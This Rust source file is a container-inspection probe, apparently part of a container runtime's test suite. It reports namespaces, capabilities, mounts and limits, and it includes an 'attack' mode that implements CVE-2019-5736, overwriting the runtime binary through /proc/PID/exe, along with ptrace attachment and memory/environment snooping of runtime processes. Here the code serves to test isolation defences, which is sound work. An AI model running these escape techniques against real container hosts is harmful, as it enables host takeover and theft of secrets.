//! probe: runs inside a test container and prints, as one JSON object,
//! what the container looks like from inside. Static, libc only.
//!
//! Modes:
//! - `probe`: the report (see `report`).
//! - `probe exit N`: exits with status N.
//! - `probe stat PATH...`: lstat of each path.
//! - `probe read PATH`: reads a file.
//! - `probe write PATH TEXT`: truncates a file and writes TEXT to it.
//! - `probe statf PATH...`: stat of each path, following symlinks.
//! - `probe cwd`: the kernel's getcwd, which names a directory outside the
//!   root "(unreachable)/...".
//! - `probe fds`: each open descriptor's link, device and inode.
//! - `probe mknod PATH b|c MAJOR MINOR`: makes a device node and opens it.
//! - `probe attack exe|ptrace|snoop STOPFILE MS`: an attacker that loops
//!   over every other process until STOPFILE exists (and a little longer)
//!   or MS milliseconds pass; see [`attack`].

use std::fmt::{Display, Write as _};
use std::fs;
use std::io;
use std::mem;
use std::os::unix::fs::MetadataExt;

/// Fields of /proc/self/status reported as strings: (status key, JSON key).
const STATUS_FIELDS: [(&str, &str); 11] = [
    ("Uid:", "uid"),
    ("Gid:", "gid"),
    ("Groups:", "groups"),
    ("Umask:", "umask"),
    ("CapInh:", "cap_inheritable"),
    ("CapPrm:", "cap_permitted"),
    ("CapEff:", "cap_effective"),
    ("CapBnd:", "cap_bounding"),
    ("CapAmb:", "cap_ambient"),
    ("NoNewPrivs:", "no_new_privs"),
    ("Seccomp:", "seccomp"),
];

/// Sysctls reported under "sysctl", by dotted name.
const SYSCTLS: [&str; 5] = [
    "kernel.shmmax",
    "kernel.msgmax",
    "net.ipv4.ip_forward",
    "net.ipv4.ip_unprivileged_port_start",
    "fs.mqueue.msg_max",
];

/// `who` argument of ioprio_get: a process id (0 = the caller).
const IOPRIO_WHO_PROCESS: libc::c_long = 1;

fn q(s: &str) -> String {
    let mut o = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => o.push_str("\\\""),
            '\\' => o.push_str("\\\\"),
            c if (c as u32) < 0x20 => {
                let _ = write!(o, "\\u{:04x}", c as u32);
            }
            c => o.push(c),
        }
    }
    o.push('"');
    o
}

/// A JSON string, or null.
fn opt(s: Option<String>) -> String {
    s.map(|s| q(&s)).unwrap_or_else(|| "null".into())
}

/// A JSON number (anything printed as one), or null.
fn num<T: Display>(v: Option<T>) -> String {
    v.map(|v| v.to_string()).unwrap_or_else(|| "null".into())
}

fn list(items: impl Iterator<Item = String>) -> String {
    format!("[{}]", items.collect::<Vec<_>>().join(","))
}

/// A JSON object from (key, already encoded value) pairs.
fn obj<K: AsRef<str>>(fields: impl IntoIterator<Item = (K, String)>) -> String {
    let fields: Vec<String> = fields
        .into_iter()
        .map(|(k, v)| format!("{}:{v}", q(k.as_ref())))
        .collect();
    format!("{{{}}}", fields.join(","))
}

/// Some(rc) when a libc call succeeded (returned a non-negative value).
fn ok<T: PartialOrd + Default>(rc: T) -> Option<T> {
    (rc >= T::default()).then_some(rc)
}

/// A file's contents without surrounding whitespace or NULs.
fn read_trim(path: &str) -> Option<String> {
    let s = fs::read_to_string(path).ok()?;
    Some(
        s.trim_matches(|c: char| c.is_whitespace() || c == '\0')
            .to_string(),
    )
}

fn status_field(status: &str, key: &str) -> Option<String> {
    status
        .lines()
        .find_map(|l| l.strip_prefix(key).map(|v| v.trim().to_string()))
}

/// Symlinks in a /proc directory as an object: entry name -> target.
fn links(dir: &str) -> String {
    let entries = fs::read_dir(dir)
        .map(|d| {
            d.filter_map(|e| e.ok())
                .map(|e| {
                    let t = fs::read_link(e.path()).map(|p| p.display().to_string());
                    (e.file_name().to_string_lossy().into_owned(), opt(t.ok()))
                })
                .collect::<Vec<_>>()
        })
        .unwrap_or_default();
    obj(entries)
}

fn mounts() -> String {
    let mounts = fs::read_to_string("/proc/self/mountinfo").unwrap_or_default();
    let mounts = mounts.lines().filter_map(|l| {
        let (left, right) = l.split_once(" - ")?;
        let f: Vec<&str> = left.split(' ').collect();
        let r: Vec<&str> = right.split(' ').collect();
        Some(format!(
            "{{\"target\":{},\"options\":{},\"fstype\":{},\"source\":{},\"super\":{}}}",
            q(f.get(4)?),
            q(f.get(5)?),
            q(r.first()?),
            q(r.get(1)?),
            q(r.get(2)?)
        ))
    });
    list(mounts)
}

fn rlimit(resource: libc::__rlimit_resource_t) -> Option<(libc::rlim_t, libc::rlim_t)> {
    let mut rl = libc::rlimit {
        rlim_cur: 0,
        rlim_max: 0,
    };
    // SAFETY: rl is a valid, writable rlimit for the duration of the call.
    ok(unsafe { libc::getrlimit(resource, &mut rl) })?;
    Some((rl.rlim_cur, rl.rlim_max))
}

/// All rlimits as name -> [soft, hard], with -1 for RLIM_INFINITY.
fn rlimits() -> String {
    let lim = |v: libc::rlim_t| match v {
        libc::RLIM_INFINITY => "-1".to_string(),
        v => v.to_string(),
    };
    let all = [
        ("RLIMIT_CPU", libc::RLIMIT_CPU),
        ("RLIMIT_FSIZE", libc::RLIMIT_FSIZE),
        ("RLIMIT_DATA", libc::RLIMIT_DATA),
        ("RLIMIT_STACK", libc::RLIMIT_STACK),
        ("RLIMIT_CORE", libc::RLIMIT_CORE),
        ("RLIMIT_RSS", libc::RLIMIT_RSS),
        ("RLIMIT_NPROC", libc::RLIMIT_NPROC),
        ("RLIMIT_NOFILE", libc::RLIMIT_NOFILE),
        ("RLIMIT_MEMLOCK", libc::RLIMIT_MEMLOCK),
        ("RLIMIT_AS", libc::RLIMIT_AS),
        ("RLIMIT_LOCKS", libc::RLIMIT_LOCKS),
        ("RLIMIT_SIGPENDING", libc::RLIMIT_SIGPENDING),
        ("RLIMIT_MSGQUEUE", libc::RLIMIT_MSGQUEUE),
        ("RLIMIT_NICE", libc::RLIMIT_NICE),
        ("RLIMIT_RTPRIO", libc::RLIMIT_RTPRIO),
        ("RLIMIT_RTTIME", libc::RLIMIT_RTTIME),
    ];
    obj(all.map(|(name, res)| {
        let v = rlimit(res).map(|(soft, hard)| format!("[{},{}]", lim(soft), lim(hard)));
        (name, v.unwrap_or_else(|| "null".into()))
    }))
}

/// [class, level] of the caller's I/O priority.
fn ioprio() -> Option<String> {
    // SAFETY: ioprio_get takes no pointers and only reads the caller's state.
    let v = unsafe { libc::syscall(libc::SYS_ioprio_get, IOPRIO_WHO_PROCESS, 0 as libc::c_long) };
    ok(v).map(|v| format!("[{},{}]", v >> 13, v & 0x1fff))
}

/// The nice value; -1 is a valid result, so errors are told apart by errno.
fn nice() -> Option<libc::c_int> {
    // SAFETY: __errno_location returns this thread's errno, valid to write.
    unsafe { *libc::__errno_location() = 0 };
    // SAFETY: getpriority takes no pointers and only reads the caller's state.
    let v = unsafe { libc::getpriority(libc::PRIO_PROCESS, 0) };
    (v != -1 || io::Error::last_os_error().raw_os_error() == Some(0)).then_some(v)
}

fn sched() -> String {
    // SAFETY: sched_getscheduler takes no pointers and only reads the caller's state.
    let policy = ok(unsafe { libc::sched_getscheduler(0) });
    let mut param = libc::sched_param { sched_priority: 0 };
    // SAFETY: param is a valid, writable sched_param for the duration of the call.
    let priority = ok(unsafe { libc::sched_getparam(0, &mut param) }).map(|_| param.sched_priority);
    obj([
        ("policy", num(policy)),
        ("priority", num(priority)),
        ("nice", num(nice())),
    ])
}

/// CPUs in the caller's affinity mask.
fn cpus() -> Option<String> {
    // SAFETY: cpu_set_t is a plain bitmask, for which all zeroes is valid.
    let mut set: libc::cpu_set_t = unsafe { mem::zeroed() };
    // SAFETY: set is writable and we pass its exact size.
    ok(unsafe { libc::sched_getaffinity(0, mem::size_of_val(&set), &mut set) })?;
    let bits = 8 * mem::size_of_val(&set);
    // SAFETY: every cpu index is below the number of bits in set.
    let cpus = (0..bits).filter(|&cpu| unsafe { libc::CPU_ISSET(cpu, &set) });
    Some(list(cpus.map(|cpu| cpu.to_string())))
}

/// keyctl(KEYCTL_DESCRIBE) of the session keyring, e.g. "keyring;0;0;3f1b0000;_ses".
fn keyring() -> Option<String> {
    // Descriptions are at most 4095 bytes plus a short type;uid;gid;perm prefix.
    let mut buf = vec![0u8; 8192];
    // SAFETY: the kernel writes at most buf.len() bytes into buf.
    let n = unsafe {
        libc::syscall(
            libc::SYS_keyctl,
            libc::KEYCTL_DESCRIBE as libc::c_long,
            libc::KEY_SPEC_SESSION_KEYRING as libc::c_long,
            buf.as_mut_ptr(),
            buf.len() as libc::c_long,
        )
    };
    let n = usize::try_from(n).ok().filter(|&n| n <= buf.len())?;
    buf.truncate(n);
    let s = String::from_utf8_lossy(&buf);
    Some(s.trim_end_matches('\0').to_string())
}

/// Whole seconds (tv_sec) of a clock.
fn clock_secs(clock: libc::clockid_t) -> Option<libc::time_t> {
    // SAFETY: timespec is a plain C struct, for which all zeroes is valid.
    let mut ts: libc::timespec = unsafe { mem::zeroed() };
    // SAFETY: ts is a valid, writable timespec for the duration of the call.
    ok(unsafe { libc::clock_gettime(clock, &mut ts) })?;
    Some(ts.tv_sec)
}

/// Readable sysctls as dotted name -> trimmed value; unreadable ones are left out.
fn sysctls() -> String {
    obj(SYSCTLS.iter().filter_map(|name| {
        let value = read_trim(&format!("/proc/sys/{}", name.replace('.', "/")))?;
        Some((*name, q(&value)))
    }))
}

/// An id map's lines with whitespace collapsed, e.g. ["0 100000 65536"].
fn id_map(path: &str) -> Option<String> {
    let map = fs::read_to_string(path).ok()?;
    let lines = map
        .lines()
        .map(|l| l.split_whitespace().collect::<Vec<_>>().join(" "))
        .filter(|l| !l.is_empty());
    Some(list(lines.map(|l| q(&l))))
}

fn report() -> String {
    let status = fs::read_to_string("/proc/self/status").unwrap_or_default();
    let cwd = std::env::current_dir()
        .ok()
        .map(|p| p.display().to_string());
    let env = std::env::vars().map(|(k, v)| q(&format!("{k}={v}")));
    let cgroups = fs::read_to_string("/proc/self/cgroup").unwrap_or_default();
    // SAFETY: isatty takes no pointers and only inspects the descriptor.
    let ttys = (0..3).map(|fd| (unsafe { libc::isatty(fd) } == 1).to_string());
    let (nofile_cur, nofile_max) = rlimit(libc::RLIMIT_NOFILE).unwrap_or((0, 0));
    // SAFETY: getsid takes no pointers and only reads process state.
    let sid = unsafe { libc::getsid(0) };
    // SAFETY: personality(0xffffffff) only queries the current persona.
    let personality = unsafe { libc::personality(0xffffffff) };
    let apparmor = read_trim("/proc/self/attr/apparmor/current")
        .or_else(|| read_trim("/proc/self/attr/current"));
    let oom_score_adj = read_trim("/proc/self/oom_score_adj").and_then(|s| s.parse::<i64>().ok());
    let clocks = obj([
        ("monotonic", num(clock_secs(libc::CLOCK_MONOTONIC))),
        ("boottime", num(clock_secs(libc::CLOCK_BOOTTIME))),
    ]);

    let mut fields: Vec<(&str, String)> = vec![
        ("pid", std::process::id().to_string()),
        ("namespaces", links("/proc/self/ns")),
        ("hostname", opt(read_trim("/proc/sys/kernel/hostname"))),
        ("domainname", opt(read_trim("/proc/sys/kernel/domainname"))),
    ];
    fields.extend(
        STATUS_FIELDS
            .iter()
            .map(|&(key, name)| (name, opt(status_field(&status, key)))),
    );
    fields.extend([
        ("cwd", opt(cwd)),
        ("env", list(env)),
        ("mounts", mounts()),
        ("cgroups", list(cgroups.lines().map(q))),
        ("fds", links("/proc/self/fd")),
        ("tty", list(ttys)),
        ("nofile", format!("[{nofile_cur},{nofile_max}]")),
        ("sid", sid.to_string()),
        ("oom_score_adj", num(oom_score_adj)),
        ("ioprio", num(ioprio())),
        ("sched", sched()),
        ("personality", personality.to_string()),
        ("cpus", num(cpus())),
        ("keyring", opt(keyring())),
        ("clocks", clocks),
        ("sysctl", sysctls()),
        ("uid_map", num(id_map("/proc/self/uid_map"))),
        ("gid_map", num(id_map("/proc/self/gid_map"))),
        ("setgroups", opt(read_trim("/proc/self/setgroups"))),
        ("rlimits", rlimits()),
        ("apparmor", opt(apparmor)),
    ]);
    obj(fields)
}

/// Single-letter file type from st_mode, as in find -type.
fn file_type(mode: u32) -> &'static str {
    match mode & libc::S_IFMT {
        libc::S_IFCHR => "c",
        libc::S_IFBLK => "b",
        libc::S_IFDIR => "d",
        libc::S_IFLNK => "l",
        libc::S_IFIFO => "p",
        libc::S_IFSOCK => "s",
        libc::S_IFREG => "f",
        _ => "?", // no other file types exist on Linux
    }
}

/// `probe stat PATH...`: path -> lstat summary, or null when lstat fails.
fn stat(paths: &[String]) -> String {
    stat_with(paths, |p| fs::symlink_metadata(p))
}

/// `probe statf PATH...`: as `stat`, through symlinks.
fn statf(paths: &[String]) -> String {
    stat_with(paths, |p| fs::metadata(p))
}

fn stat_with(paths: &[String], how: fn(&str) -> io::Result<fs::Metadata>) -> String {
    obj(paths.iter().map(|path| {
        let st = how(path).ok().map(|m| {
            obj([
                ("type", q(file_type(m.mode()))),
                ("major", libc::major(m.rdev()).to_string()),
                ("minor", libc::minor(m.rdev()).to_string()),
                ("mode", (m.mode() & 0o7777).to_string()),
                ("uid", m.uid().to_string()),
                ("gid", m.gid().to_string()),
            ])
        });
        (path, num(st))
    }))
}

/// {"ok":true, ...extra} on success, {"ok":false,"errno":N} on failure.
fn outcome(r: io::Result<Vec<(&str, String)>>) -> String {
    match r {
        Ok(extra) => obj([("ok", "true".to_string())].into_iter().chain(extra)),
        Err(e) => obj([
            ("ok", "false".to_string()),
            ("errno", e.raw_os_error().unwrap_or(0).to_string()),
        ]),
    }
}

/// `probe read PATH`: the file's contents (invalid UTF-8 replaced).
fn read(path: &str) -> String {
    outcome(fs::read(path).map(|b| vec![("content", q(&String::from_utf8_lossy(&b)))]))
}

/// Integer arguments, decimal or 0x-hex.
fn ints(args: &[String]) -> Vec<u64> {
    args.iter()
        .map(|a| match a.strip_prefix("0x") {
            Some(h) => u64::from_str_radix(h, 16).unwrap_or(0),
            None => a.parse::<i64>().map(|v| v as u64).unwrap_or(0),
        })
        .collect()
}

/// {"ret":R,"errno":E} of a raw syscall's result.
fn result(r: i64) -> String {
    let errno = if r == -1 {
        io::Error::last_os_error().raw_os_error().unwrap_or(0)
    } else {
        0
    };
    obj([("ret", r.to_string()), ("errno", errno.to_string())])
}

/// `probe syscall NR [ARG...]`: a raw syscall with integer arguments.
fn syscall(args: &[String]) -> String {
    let v = ints(args);
    let a = |i: usize| v.get(i).copied().unwrap_or(0);
    // SAFETY: the caller picks a syscall that takes integers; pointers
    // passed as integers are the caller's business (the tests pass none).
    let r = unsafe { libc::syscall(a(0) as libc::c_long, a(1), a(2), a(3), a(4), a(5), a(6)) };
    result(r as i64)
}

/// `probe clone FLAGS`: clone(FLAGS|SIGCHLD) without a new stack, like
/// fork; the child exits at once and is reaped.
fn clone(flags: &str) -> String {
    let flags = ints(&[flags.to_string()])[0] | libc::SIGCHLD as u64;
    // SAFETY: without CLONE_VM the child runs on a copy of our memory and
    // only calls _exit.
    let r = unsafe { libc::syscall(libc::SYS_clone, flags, 0, 0, 0, 0) };
    if r == 0 {
        // SAFETY: leaving the child at once.
        unsafe { libc::_exit(0) }
    }
    let out = result(r);
    if r > 0 {
        // SAFETY: reaping our own child.
        unsafe { libc::waitpid(r as i32, std::ptr::null_mut(), 0) };
    }
    out
}

/// `probe hold MIB`: maps and touches MIB MiB, then waits for a signal. Its
/// exit takes as long as the kernel needs to free that memory, which keeps
/// its cgroups busy meanwhile.
fn hold(mib: &str) -> String {
    let len = mib.parse::<usize>().unwrap_or(0) << 20;
    // SAFETY: a fresh private anonymous mapping, written only within it and
    // never unmapped: it lives as long as the process.
    unsafe {
        let p = libc::mmap(
            std::ptr::null_mut(),
            len,
            libc::PROT_READ | libc::PROT_WRITE,
            libc::MAP_PRIVATE | libc::MAP_ANONYMOUS | libc::MAP_POPULATE,
            -1,
            0,
        );
        if p == libc::MAP_FAILED {
            return result(-1);
        }
        loop {
            libc::pause();
        }
    }
}

/// `probe int80 NR [ARG...]`: a syscall through the 32-bit x86 entry
/// (`int 0x80`), which the kernel checks against the filter's x86 ABI.
fn int80(args: &[String]) -> String {
    let v = ints(args);
    let a = |i: usize| v.get(i).copied().unwrap_or(0) as u32;
    let mut ret: u32 = a(0);
    // SAFETY: the 32-bit entry with integer arguments; it clobbers no
    // registers other than eax in the 64-bit process (r8-r11 are saved by
    // the kernel on this path since 4.x, and are declared anyway).
    unsafe {
        // rbx is reserved by LLVM: saved and restored around the call.
        std::arch::asm!(
            "push rbx",
            "mov ebx, {b:e}",
            "int 0x80",
            "pop rbx",
            b = in(reg) a(1),
            inout("eax") ret,
            in("ecx") a(2),
            in("edx") a(3),
            out("r8") _, out("r9") _, out("r10") _, out("r11") _,
        );
    }
    let r = ret as i32;
    let (r, errno) = if (-4095..0).contains(&r) {
        (-1, -r)
    } else {
        (r, 0)
    };
    obj([("ret", r.to_string()), ("errno", errno.to_string())])
}

/// `probe write PATH TEXT`: creates or truncates PATH and writes TEXT.
fn write(path: &str, text: &str) -> String {
    outcome(fs::write(path, text).map(|()| vec![]))
}

/// `probe cwd`: what the kernel's getcwd (not libc's, which hides the
/// prefix) says, and whether that is a path from the root at all.
fn cwd() -> String {
    let mut buf = vec![0u8; 4096];
    // SAFETY: the kernel writes at most buf.len() bytes into buf.
    let n = unsafe { libc::syscall(libc::SYS_getcwd, buf.as_mut_ptr(), buf.len()) };
    let errno = io::Error::last_os_error().raw_os_error().unwrap_or(0);
    let Ok(n) = usize::try_from(n) else {
        return obj([("ok", "false".into()), ("errno", errno.to_string())]);
    };
    buf.truncate(n);
    let path = String::from_utf8_lossy(&buf);
    let path = path.trim_end_matches('\0');
    let entries = fs::read_dir(".")
        .map(|d| {
            d.filter_map(|e| e.ok())
                .map(|e| q(&e.file_name().to_string_lossy()))
                .collect::<Vec<_>>()
        })
        .unwrap_or_default();
    obj([
        ("ok", "true".into()),
        ("path", q(path)),
        ("reachable", path.starts_with('/').to_string()),
        ("entries", list(entries.into_iter())),
    ])
}

/// `probe fds`: descriptor -> {link, dev, ino}, without the one that
/// lists the directory.
fn fds() -> String {
    let own = format!("/proc/{}/fd", std::process::id());
    let mut out = Vec::new();
    for e in fs::read_dir("/proc/self/fd")
        .into_iter()
        .flatten()
        .flatten()
    {
        let link = fs::read_link(e.path()).map(|p| p.display().to_string());
        if link.as_deref().is_ok_and(|l| l == own) {
            continue;
        }
        let st = fs::metadata(e.path()).ok();
        out.push((
            e.file_name().to_string_lossy().into_owned(),
            obj([
                ("link", opt(link.ok())),
                ("dev", num(st.as_ref().map(|m| m.dev()))),
                ("ino", num(st.as_ref().map(|m| m.ino()))),
            ]),
        ));
    }
    obj(out)
}

/// {"ok":true} or {"ok":false,"errno":N} of a libc call's return value.
fn rc(r: libc::c_int) -> String {
    outcome(match r {
        0.. => Ok(vec![]),
        _ => Err(io::Error::last_os_error()),
    })
}

/// `probe mknod PATH b|c MAJOR MINOR`: mknod, then open for reading (the
/// device cgroup may refuse either).
fn mknod(args: &[String]) -> String {
    let path = std::ffi::CString::new(args.first().cloned().unwrap_or_default()).unwrap();
    let kind = match args.get(1).map(String::as_str) {
        Some("b") => libc::S_IFBLK,
        _ => libc::S_IFCHR,
    };
    let n = ints(&args[2.min(args.len())..]);
    let dev = libc::makedev(
        n.first().copied().unwrap_or(0) as u32,
        n.get(1).copied().unwrap_or(0) as u32,
    );
    // SAFETY: a NUL-terminated path; mknod and open take no other pointers.
    let made = unsafe { libc::mknod(path.as_ptr(), kind | 0o600, dev) };
    let made = rc(made);
    // SAFETY: as above.
    let fd = unsafe { libc::open(path.as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC) };
    let opened = rc(fd);
    if fd >= 0 {
        // SAFETY: our own descriptor.
        unsafe { libc::close(fd) };
    }
    obj([("mknod", made), ("open", opened)])
}

/// (device, inode) of a file, through symlinks and /proc magic links.
fn file_id(path: &str) -> Option<(u64, u64)> {
    fs::metadata(path).ok().map(|m| (m.dev(), m.ino()))
}

/// Every process but this one, as /proc lists them.
fn other_pids() -> Vec<i32> {
    let me = std::process::id() as i32;
    fs::read_dir("/proc")
        .into_iter()
        .flatten()
        .flatten()
        .filter_map(|e| e.file_name().to_str()?.parse().ok())
        .filter(|&p| p != me)
        .collect()
}

fn raw_ptrace(req: libc::c_uint, pid: i32, data: libc::c_long) -> libc::c_long {
    // SAFETY: requests that take no pointers (addr 0, data an integer).
    unsafe {
        libc::syscall(
            libc::SYS_ptrace,
            req as libc::c_long,
            pid as libc::c_long,
            0,
            data,
        )
    }
}

/// The attacker's state across rounds.
struct Attack {
    /// The container's own programs: any other /proc/PID/exe is the
    /// runtime's, seen before the execve that should have hidden it.
    ours: Vec<(u64, u64)>,
    /// Successful accesses to processes running the container's programs
    /// (after their execve): proof that the loop reaches what berth starts.
    hits_after_exec: u64,
    /// Those processes: left alone from then on (a process does not go
    /// back to running the runtime), so that the loop spends its time on
    /// new ones, and so that tracing does not starve them.
    after_exec: std::collections::BTreeSet<i32>,
    pids_seen: std::collections::BTreeSet<i32>,
    findings: Vec<String>,
    findings_total: u64,
    /// exe: O_PATH descriptors of runtime binaries, one per inode.
    held: Vec<(libc::c_int, (u64, u64), String)>,
    write_opens: Vec<String>,
    writes: u64,
}

/// What an attacker writes over a runtime binary it manages to open.
const SCRIBBLE: &[u8] = b"#!/bin/sh\necho the container rewrote the runtime\n";

impl Attack {
    fn foreign(&self, id: Option<(u64, u64)>) -> bool {
        id.is_some_and(|id| !self.ours.contains(&id))
    }

    fn seen_after_exec(&mut self, pid: i32) {
        self.hits_after_exec += 1;
        self.after_exec.insert(pid);
    }

    /// The first findings only (the same process is found round after
    /// round); `findings_total` counts them all.
    fn note(&mut self, fields: Vec<(&str, String)>) {
        self.findings_total += 1;
        if self.findings.len() < 20 {
            self.findings.push(obj(fields));
        }
    }

    /// Writes over the start of an open runtime binary; records the open
    /// and what the write did.
    fn scribble(&mut self, fd: libc::c_int, how: &str, link: &str) {
        // SAFETY: a live descriptor and a buffer of the length passed.
        let n = unsafe { libc::pwrite(fd, SCRIBBLE.as_ptr().cast(), SCRIBBLE.len(), 0) };
        let errno = io::Error::last_os_error().raw_os_error().unwrap_or(0);
        if n > 0 {
            self.writes += 1;
        }
        self.write_opens.push(obj([
            ("how", q(how)),
            ("link", q(link)),
            ("written", n.to_string()),
            ("errno", if n < 0 { errno } else { 0 }.to_string()),
        ]));
    }

    /// CVE-2019-5736: keep an O_PATH descriptor of every runtime binary
    /// seen, try O_WRONLY directly (ETXTBSY while it runs).
    fn exe(&mut self, pid: i32) {
        let path = format!("/proc/{pid}/exe");
        let c = std::ffi::CString::new(path.clone()).unwrap();
        // SAFETY: a NUL-terminated path.
        let fd = unsafe { libc::open(c.as_ptr(), libc::O_PATH | libc::O_CLOEXEC) };
        if fd < 0 {
            return;
        }
        let id = file_id(&format!("/proc/self/fd/{fd}"));
        let link = fs::read_link(&path)
            .map(|p| p.display().to_string())
            .unwrap_or_default();
        if !self.foreign(id) {
            self.seen_after_exec(pid);
            // SAFETY: our own descriptor.
            unsafe { libc::close(fd) };
            return;
        }
        if self.held.iter().any(|h| Some(h.1) == id) {
            // SAFETY: our own descriptor.
            unsafe { libc::close(fd) };
        } else {
            self.held.push((fd, id.unwrap(), link.clone()));
        }
        // SAFETY: a NUL-terminated path.
        let w = unsafe { libc::open(c.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
        if w >= 0 {
            self.scribble(w, "direct", &link);
            // SAFETY: our own descriptor.
            unsafe { libc::close(w) };
        }
    }

    /// The second half of CVE-2019-5736: once nothing runs the binary any
    /// more, reopen the kept descriptors for writing.
    fn reopen_held(&mut self) {
        let held: Vec<_> = self.held.iter().map(|h| (h.0, h.2.clone())).collect();
        for (fd, link) in held {
            let c = std::ffi::CString::new(format!("/proc/self/fd/{fd}")).unwrap();
            // SAFETY: a NUL-terminated path.
            let w = unsafe { libc::open(c.as_ptr(), libc::O_WRONLY | libc::O_CLOEXEC) };
            if w >= 0 {
                self.scribble(w, "reopen", &link);
                // SAFETY: our own descriptor.
                unsafe { libc::close(w) };
            }
        }
    }

    /// PTRACE_ATTACH or PTRACE_SEIZE; a tracee running a runtime binary is
    /// a finding. Every tracee is let go at once.
    fn ptrace(&mut self, pid: i32, seize: bool) {
        let req = if seize {
            libc::PTRACE_SEIZE
        } else {
            libc::PTRACE_ATTACH
        };
        if raw_ptrace(req, pid, 0) != 0 {
            return;
        }
        if seize {
            raw_ptrace(libc::PTRACE_INTERRUPT, pid, 0);
        }
        // Until it stops (or exits): only a stopped tracee can be let go,
        // and one left traced would stay stopped for good. Stopped, the
        // program it runs cannot change under us either.
        let mut status = 0;
        // SAFETY: status is a valid int to write.
        unsafe { libc::waitpid(pid, &mut status, libc::__WALL) };
        let path = format!("/proc/{pid}/exe");
        let id = file_id(&path);
        if self.foreign(id) {
            let link = fs::read_link(&path).map(|p| p.display().to_string());
            self.note(vec![
                ("pid", pid.to_string()),
                ("how", q(if seize { "seize" } else { "attach" })),
                ("link", opt(link.ok())),
            ]);
        } else if id.is_some() {
            self.seen_after_exec(pid);
        }
        raw_ptrace(libc::PTRACE_DETACH, pid, 0);
        if !seize {
            // PTRACE_ATTACH's SIGSTOP may still be pending (the stop seen
            // was another, such as the SIGTRAP that ends an execve):
            // SIGCONT discards it, or the process would stop for good.
            // SAFETY: kill takes no pointers.
            unsafe { libc::kill(pid, libc::SIGCONT) };
        }
    }

    /// What a process that is dumpable gives away: its exe link, its
    /// environment, its memory. Before and after, so that a process that
    /// runs a runtime binary during the reads is found.
    fn snoop(&mut self, pid: i32) {
        let exe = format!("/proc/{pid}/exe");
        let before = file_id(&exe);
        let environ = fs::read(format!("/proc/{pid}/environ")).is_ok();
        let mem = fs::File::open(format!("/proc/{pid}/mem")).is_ok();
        let link = fs::read_link(&exe).map(|p| p.display().to_string());
        let after = file_id(&exe);
        if self.foreign(before) || self.foreign(after) {
            self.note(vec![
                ("pid", pid.to_string()),
                ("link", opt(link.ok())),
                ("environ", environ.to_string()),
                ("mem", mem.to_string()),
            ]);
        } else if before.is_some() && after.is_some() {
            self.seen_after_exec(pid);
        }
    }
}

/// `probe attack KIND STOPFILE MS`: what a root process in a container can
/// try against the processes the runtime starts in it, in a loop over
/// every other process in the pid namespace, until STOPFILE appears (and
/// 300 ms more, when no runtime process runs any more) or MS ms pass.
/// KIND: `exe` (CVE-2019-5736 against /proc/PID/exe), `ptrace`, `snoop`
/// (/proc/PID/exe, environ and mem).
fn attack(args: &[String]) -> String {
    use std::time::{Duration, Instant};
    let kind = args.first().cloned().unwrap_or_default();
    let stop = args.get(1).cloned().unwrap_or_default();
    let ms = args.get(2).and_then(|a| a.parse().ok()).unwrap_or(10_000);
    let mut deadline = Instant::now() + Duration::from_millis(ms);
    let ours = ["/bin/busybox", "/bin/probe", "/proc/self/exe"]
        .iter()
        .filter_map(|p| file_id(p))
        .collect();
    let mut a = Attack {
        ours,
        hits_after_exec: 0,
        after_exec: Default::default(),
        pids_seen: Default::default(),
        findings: vec![],
        findings_total: 0,
        held: vec![],
        write_opens: vec![],
        writes: 0,
    };
    let mut rounds: u64 = 0;
    let mut stopping = false;
    while Instant::now() < deadline {
        rounds += 1;
        for pid in other_pids() {
            if a.after_exec.contains(&pid) {
                continue;
            }
            a.pids_seen.insert(pid);
            match kind.as_str() {
                "exe" => a.exe(pid),
                "ptrace" => a.ptrace(pid, rounds.is_multiple_of(2)),
                _ => a.snoop(pid),
            }
        }
        a.reopen_held();
        // As the container's init, the attacker inherits the processes of
        // `exec -d` when exec exits: reaped, or /proc fills with zombies.
        let mut status = 0;
        // SAFETY: status is a valid int to write.
        while unsafe { libc::waitpid(-1, &mut status, libc::WNOHANG) } > 0 {}
        if !stopping && std::path::Path::new(&stop).exists() {
            stopping = true;
            deadline = deadline.min(Instant::now() + Duration::from_millis(300));
        }
    }
    let held = a.held.iter().map(|(_, (dev, ino), link)| {
        obj([
            ("link", q(link)),
            ("dev", dev.to_string()),
            ("ino", ino.to_string()),
        ])
    });
    obj([
        ("kind", q(&kind)),
        ("rounds", rounds.to_string()),
        ("stopped", stopping.to_string()),
        ("pids_seen", a.pids_seen.len().to_string()),
        ("hits_after_exec", a.hits_after_exec.to_string()),
        ("findings", list(a.findings.into_iter())),
        ("findings_total", a.findings_total.to_string()),
        ("held", list(held)),
        ("write_opens", list(a.write_opens.into_iter())),
        ("writes", a.writes.to_string()),
    ])
}

fn main() {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let arg = |i: usize| args.get(i).map(String::as_str);
    let out = match arg(0) {
        Some("exit") => std::process::exit(arg(1).and_then(|a| a.parse().ok()).unwrap_or(0)),
        Some("stat") => stat(&args[1..]),
        Some("statf") => statf(&args[1..]),
        Some("cwd") => cwd(),
        Some("fds") => fds(),
        Some("mknod") => mknod(&args[1..]),
        Some("attack") => attack(&args[1..]),
        Some("read") => read(arg(1).unwrap_or("")),
        Some("write") => write(arg(1).unwrap_or(""), arg(2).unwrap_or("")),
        Some("syscall") => syscall(&args[1..]),
        Some("clone") => clone(arg(1).unwrap_or("0")),
        Some("int80") => int80(&args[1..]),
        Some("hold") => hold(arg(1).unwrap_or("0")),
        _ => report(),
    };
    println!("{out}");
}
